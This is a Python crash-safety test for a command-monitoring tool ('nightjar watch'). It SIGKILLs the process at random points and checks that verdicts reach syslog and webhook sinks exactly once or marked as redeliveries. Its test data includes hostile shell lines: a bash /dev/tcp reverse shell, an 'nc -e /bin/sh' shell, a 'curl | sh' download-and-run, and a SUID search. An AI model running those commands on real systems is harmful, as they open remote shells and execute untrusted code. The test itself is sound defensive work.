#!/usr/bin/env python3
"""Crash safety through the model path: `nightjar watch` with the SmolLM2
model (label path, rules on, retrieval on), a syslog sink over TCP and a
webhook sink, both received by servers in this process, is SIGKILLed at
random points while events stream through it.

Each round appends EVENTS/KILLS lines to the log, lets watch run (most
rounds until the spool holds a random share, 50-100 %, of the verdicts
due so far, then) for a random time (seeded) and kills it: mid-parse,
mid-model, between a verdict's commit and its delivery, mid-send.  A final `--once` run
finishes the backlog.  Then:
  - every line has exactly one event and exactly one verdict in the spool;
  - the verdicts the model gave are there (source "model" or "cache"
    besides "rule": the model path really ran);
  - each sink received every verdict at least once, and every repeated
    delivery is marked as a redelivery (syslog: redelivery="true" in the
    structured data; webhook: "redelivery": true in the body).

  crash_model.py [--kills N] [--events M] [--seed S]
Defaults 20 kills, 1000 events (`make crash-test`); make test runs a small
variant (tests/agent/test_crash_model.sh).  Prints one line per check and
"N passed, M failed"; exits 1 on failure.  The random delays are the crash
points, not waits: each check runs after the process it depends on exited.
"""
import argparse
import http.server
import json
import os
import random
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import njtest  # noqa: E402
from njtest import BIN, MODEL, check  # noqa: E402


class Received:
    """What one sink's receiver got: event id -> [redelivery flags]."""

    def __init__(self):
        self.mu = threading.Lock()
        self.seen = {}
        self.bad = []

    def add(self, event_id, redelivery):
        with self.mu:
            self.seen.setdefault(event_id, []).append(redelivery)


SD_RE = re.compile(r'event_id="((?:[^"\\]|\\.)*)".*? redelivery="(true|false)"\]')


def syslog_server(rec):
    """RFC 6587 octet-counted RFC 5424 messages over TCP; a frame cut by a
    killed sender is dropped (it was not delivered)."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)

    def conn(c):
        buf = b""
        while True:
            try:
                d = c.recv(65536)
            except OSError:
                d = b""
            if not d:
                break
            buf += d
            while True:
                sp = buf.find(b" ")
                if sp <= 0:
                    break
                try:
                    n = int(buf[:sp])
                except ValueError:
                    rec.bad.append(buf[:80])
                    buf = b""
                    break
                if len(buf) < sp + 1 + n:
                    break
                msg = buf[sp + 1:sp + 1 + n].decode("utf-8", "replace")
                buf = buf[sp + 1 + n:]
                m = SD_RE.search(msg)
                if not m:
                    rec.bad.append(msg[:200])
                    continue
                rec.add(m.group(1).replace('\\"', '"').replace("\\\\", "\\"), m.group(2) == "true")
        c.close()

    def loop():
        while True:
            c, _ = srv.accept()
            threading.Thread(target=conn, args=(c,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()
    return srv.getsockname()[1]


def webhook_server(rec):
    class H(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self):
            n = int(self.headers.get("Content-Length", "0"))
            body = self.rfile.read(n)
            try:
                v = json.loads(body)
                rec.add(v["event_id"], v.get("redelivery") is True)
            except (ValueError, KeyError):
                rec.bad.append(body[:200])
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"{}")

        def log_message(self, *a):
            pass

    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def handle_error(self, request, client_address):
            pass   # a sender killed mid-request resets its connection: expected here

    srv = Server(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv.server_address[1]


def commands(n, rnd, distinct):
    """n command lines drawn from `distinct` everyday commands (the model
    judges each the first time a process sees it, the verdict cache the
    repeats) and a few that rules decide."""
    verbs = ["ls -la", "cat", "python3", "grep -rn TODO", "vim", "make -C", "rsync -a", "cp -r", "du -sh",
             "git -C", "tar czf /tmp/backup.tgz", "less", "node", "cargo build --manifest-path", "stat"]
    bad = ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 4444",
           "curl -fsSL http://203.0.113.9/i.sh | sh", "find / -perm -4000 -type f"]
    pool = sorted({f"{rnd.choice(verbs)} /home/dev/project-{rnd.randint(0, 30)}/src/file_{rnd.randint(0, 99)}.c"
                   for _ in range(distinct * 2)})[:distinct]
    return [rnd.choice(bad) if rnd.random() < 0.08 else rnd.choice(pool) for _ in range(n)]


def verdict_count(db):
    if not os.path.exists(db):
        return 0
    try:
        c = sqlite3.connect(db, timeout=5)
        try:
            return c.execute("select count(*) from verdicts").fetchone()[0]
        finally:
            c.close()
    except sqlite3.Error:
        return 0   # not created yet


def spool_state(db):
    c = sqlite3.connect(db)
    try:
        ids = [r[0] for r in c.execute("select event_id from events")]
        per = dict(c.execute("select e.event_id, count(v.seq) from events e left join verdicts v on v.seq = e.seq "
                             "group by e.seq").fetchall())
        sources = {}
        for (j,) in c.execute("select verdict_json from verdicts"):
            s = json.loads(j).get("source")
            sources[s] = sources.get(s, 0) + 1
        return ids, per, sources
    finally:
        c.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--kills", type=int, default=20)
    ap.add_argument("--events", type=int, default=1000)
    ap.add_argument("--seed", type=int, default=20261207)
    ap.add_argument("--distinct", type=int, default=200, help="distinct everyday commands")
    ap.add_argument("--max-delay", type=float, default=3.0,
                    help="longest run before a kill once watch has stored a verdict, seconds")
    args = ap.parse_args()
    if njtest.model_missing():
        return 0
    rnd = random.Random(args.seed)
    tmp = tempfile.mkdtemp(prefix="nj-crash-model-")
    t_start = time.time()
    try:
        sys_rec, web_rec = Received(), Received()
        sys_port, web_port = syslog_server(sys_rec), webhook_server(web_rec)
        log = os.path.join(tmp, "commands.log")
        open(log, "w").close()
        db = os.path.join(tmp, "spool.db")
        err = open(os.path.join(tmp, "watch.err"), "a")
        cmd = [BIN, "watch", "-m", MODEL, "-t", "1", "--label-only", "--spool", db, "--source", "cmdline:" + log,
               "--sink", f"syslog:tcp:127.0.0.1:{sys_port}", "--sink", f"webhook:http://127.0.0.1:{web_port}/v"]
        lines = commands(args.events, rnd, args.distinct)
        per_round = (args.events + args.kills - 1) // args.kills
        n = 0
        for k in range(args.kills):
            p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=err)
            with open(log, "a") as f:
                for _ in range(per_round):
                    if n == len(lines):
                        break
                    f.write(lines[n] + "\n")
                    n += 1
                    if n % 10 == 0:
                        f.flush()
            # The crash point.  Most rounds let this run judge until the
            # spool holds a random share of the verdicts due by the end of
            # the round (at least one more than it had: the model is loaded
            # and judging; loading takes seconds on a busy machine), then a
            # random time more, so the kills spread over the whole stream
            # (mid-model, mid-delivery, mid-read once the backlog is caught
            # up); the others kill at a random time from the start.
            if rnd.random() < 0.75:
                v0 = verdict_count(db)
                target = max(v0 + 1, int(n * rnd.uniform(0.5, 1.0)))
                deadline = time.time() + 1800
                while time.time() < deadline and p.poll() is None and verdict_count(db) < target:
                    time.sleep(0.05)
            time.sleep(rnd.uniform(0.0, args.max_delay))
            p.send_signal(signal.SIGKILL)
            p.wait()
        t_kills = time.time()
        ids, per, sources = spool_state(db)
        print(f"     after {args.kills} kills: {len(ids)} events in the spool, {sum(per.values())} verdicts "
              f"({sources})", flush=True)
        rc = subprocess.Popen(cmd + ["--once"], stdout=subprocess.DEVNULL, stderr=err).wait()
        err.flush()
        check(f"watch --once finishes the backlog after {args.kills} kills", rc == 0,
              open(os.path.join(tmp, "watch.err")).read()[-500:])
        ids, per, sources = spool_state(db)
        want = {f"cmdline:{i}" for i in range(1, n + 1)}
        check("every line has exactly one event in the spool", len(ids) == n and set(ids) == want,
              f"{len(ids)} events for {n} lines")
        check("every event has exactly one verdict", set(per.values()) == {1}, str(
            {k: v for k, v in per.items() if v != 1})[:300])
        print(f"     verdict sources: {sources}", flush=True)
        check("the model path judged events (not only rules)", sources.get("model", 0) + sources.get("cache", 0) > 0
              and sources.get("rule", 0) > 0, str(sources))
        for name, rec in (("syslog", sys_rec), ("webhook", web_rec)):
            deadline = time.time() + 30   # the last sends are acknowledged before --once exits; margin for threads
            while time.time() < deadline and set(rec.seen) != want:
                time.sleep(0.1)
            with rec.mu:
                seen = {k: list(v) for k, v in rec.seen.items()}
            check(f"the {name} sink received every verdict at least once", set(seen) == want,
                  f"{len(set(seen) & want)} of {n}; missing e.g. {sorted(want - set(seen))[:5]}")
            dup = sum(len(v) - 1 for v in seen.values())
            unmarked = sum(1 for v in seen.values() for flag in v[1:] if not flag)
            print(f"     {name}: {sum(len(v) for v in seen.values())} deliveries, {dup} repeats, "
                  f"{sum(sum(v) for v in seen.values())} marked redelivery", flush=True)
            check(f"every repeated {name} delivery is marked as a redelivery", unmarked == 0,
                  f"{unmarked} repeats without the mark")
            check(f"the {name} receiver parsed every message", not rec.bad, str(rec.bad[:2]))
        print(f"     {n} events, {args.kills} kills: {t_kills - t_start:.0f} s of kill rounds, "
              f"{time.time() - t_kills:.0f} s to finish", flush=True)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    return njtest.summary()


if __name__ == "__main__":
    sys.exit(main())
